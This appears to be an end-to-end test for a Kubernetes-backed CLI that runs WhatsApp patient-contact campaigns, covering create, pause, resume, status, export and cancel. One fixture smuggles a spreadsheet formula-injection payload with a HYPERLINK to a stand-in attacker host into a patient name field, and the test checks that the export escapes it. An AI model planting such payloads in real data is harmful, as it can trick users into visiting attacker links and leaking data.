/**
 * The operator commands on a real campaign: the whole local stack (controller, worker, webhook, sandbox
 * WhatsApp) runs in this process, and `busca-ativa` runs as a subprocess beside it, as an operator would:
 * campaign create (paused) → status shows Paused (Suspended) and nothing is sent → resume --wait →
 * status --watch follows it to Completed → export → cancel --wait (finalizer, list Secret collected).
 */
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import * as k8s from "@kubernetes/client-node";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { testEnv } from "../harness/fixtures.js";
import { waitFor } from "../harness/wait.js";
import { INSTANCE, startLocalStack, syntheticList, uniqueName, type LocalStack } from "../e2e/stack.js";
import { runCli, startCli } from "./run-cli.js";

const FORMULA_NAME = '=HYPERLINK("http://evil.example/?x","Clique")';
const dir = mkdtempSync(join(tmpdir(), "cli-real-"));
let stack: LocalStack;

beforeAll(async () => {
  stack = await startLocalStack({
    sandbox: {
      patients: {
        shares: { yes: 1, no: 0, unknown: 0, optOut: 0, freeText: 0, silence: 0 },
        replyDelayMs: { min: 100, max: 400 },
      },
    },
  });
}, 180_000);

afterAll(async () => {
  await stack?.stop();
});

const kubeEnv = () => ({ KUBECONFIG: testEnv().kubeconfig });
const dbEnv = () => ({ DATABASE_URL: stack.databaseUrl });

describe("the operator commands on a running campaign", { timeout: 300_000 }, () => {
  it("creates it paused, resumes it, follows it to Completed, exports the results and cancels it", async () => {
    const name = uniqueName("cli-cirurgia");
    const ns = stack.namespace;
    const list = join(dir, "fila.csv");
    writeFileSync(
      list,
      `${syntheticList(6)}\n"${FORMULA_NAME.replace(/"/g, '""')}";(85) 98111-0099;CIRURGIA 9\n`,
    );

    const created = await runCli(
      [
        "campaign",
        "create",
        name,
        "--file",
        list,
        "-n",
        ns,
        "--provider",
        "sandbox",
        "--instance",
        INSTANCE,
        "--base-url",
        stack.sandbox.url,
        "--sender-secret",
        "sandbox-credentials",
        "--window",
        "00:00-23:59",
        "--days",
        "Mon,Tue,Wed,Thu,Fri,Sat,Sun",
        "--daily-quota",
        "10000",
        "--suspend",
      ],
      { env: kubeEnv() },
    );
    expect(created.stderr).toBe("");
    expect(created.code).toBe(0);
    expect(created.stdout).toContain("Rows: 7 read, 7 accepted, 0 rejected");

    // Paused from the start: the controller says why, and nothing goes out.
    const paused = await waitFor(
      async () => {
        const r = await runCli(["status", name, "-n", ns, "--json"], { env: kubeEnv() });
        const s = JSON.parse(r.stdout) as { status: { phase?: string; pauseReason?: string } };
        return s.status.phase === "Paused" && s.status.pauseReason === "Suspended" ? s : undefined;
      },
      { timeoutMs: 120_000, what: "the campaign to show Paused (Suspended)", intervalMs: 1000 },
    );
    expect(paused.status.pauseReason).toBe("Suspended");
    expect(Object.keys((await stack.sandbox.client.receivedCounts()).numbers)).toHaveLength(0);

    const watch = startCli(["status", name, "-n", ns, "--watch", "--interval", "0.5"], { env: kubeEnv() });
    await watch.waitForOutput(/Paused \(Suspended\)/);
    const resumed = await runCli(["resume", name, "-n", ns, "--wait", "--timeout", "120"], {
      env: kubeEnv(),
    });
    expect(resumed.code).toBe(0);
    expect(resumed.stdout).toContain(`Resumed campaign ${ns}/${name}`);

    await watch.waitForOutput(/Completed {2}\[#{24}\] 100% {2}contacts 7 · sent 7/, 180_000);
    await waitFor(async () => (await stack.campaignStatus(name))?.counts?.confirmed === 7, {
      timeoutMs: 120_000,
      what: "every SIM to be recorded",
    });
    await watch.waitForOutput(/confirmed 7/, 60_000);
    watch.signal("SIGINT");
    expect(await watch.exited).toBe(0);
    expect(watch.stdout()).not.toMatch(/Paciente|HYPERLINK/);

    const status = await runCli(["status", name, "-n", ns], { env: kubeEnv() });
    expect(status.stdout).toContain(`${ns}/${name}  Completed  [########################] 100%`);
    expect(status.stdout).toContain(
      "contacts 7 · sent 7 · replied 7 · confirmed 7 · declined 0 · no response 0",
    );

    const output = join(dir, "resultados.csv");
    const exported = await runCli(["export", name, "-n", ns, "--format", "csv", "-o", output], {
      env: dbEnv(),
    });
    expect(exported.code).toBe(0);
    expect(exported.stdout).toContain(`Exported 7 patients of ${ns}/${name} (completed)`);
    const rows = parse(readFileSync(output, "utf8"), { delimiter: ";", columns: true, bom: true }) as Record<
      string,
      string
    >[];
    expect(rows).toHaveLength(7);
    for (const row of rows) {
      expect(row).toMatchObject({ Status: "Confirmado", Enviado: "Sim", Confirmado: "Sim", Resposta: "SIM" });
      expect(row["Data Envio"]).toMatch(/^\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}$/);
      expect(row["Data Resposta"]).toMatch(/^\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}$/);
    }
    expect(rows.find((r) => r.Linha === "8")?.Nome).toBe(`'${FORMULA_NAME}`);

    const cancelled = await runCli(["cancel", name, "-n", ns, "--yes", "--wait", "--timeout", "150"], {
      env: kubeEnv(),
      timeoutMs: 180_000,
    });
    expect(cancelled.code).toBe(0);
    expect(cancelled.stdout).toContain(`Cancelled campaign ${ns}/${name}`);
    const { rows: db } = await stack.pool.query(
      "SELECT state, cancelled_at FROM campaigns WHERE namespace = $1 AND name = $2",
      [ns, name],
    );
    expect(db).toEqual([{ state: "cancelled", cancelled_at: expect.any(Date) }]);
    // The list's Secret is owned by the Campaign: the garbage collector removes it.
    const core = stack.kc.makeApiClient(k8s.CoreV1Api);
    await waitFor(
      async () => {
        try {
          await core.readNamespacedSecret({ namespace: ns, name: `${name}-lista` });
          return false;
        } catch (err) {
          return (err as { code?: number }).code === 404;
        }
      },
      { timeoutMs: 60_000, what: "the list Secret to be garbage-collected", intervalMs: 500 },
    );
    // The results stay exportable after the cancellation.
    const after = await runCli(
      ["export", name, "-n", ns, "--format", "xlsx", "-o", join(dir, "depois.xlsx")],
      {
        env: dbEnv(),
      },
    );
    expect(after.code).toBe(0);
    expect(after.stdout).toContain("(cancelled)");
  });
});
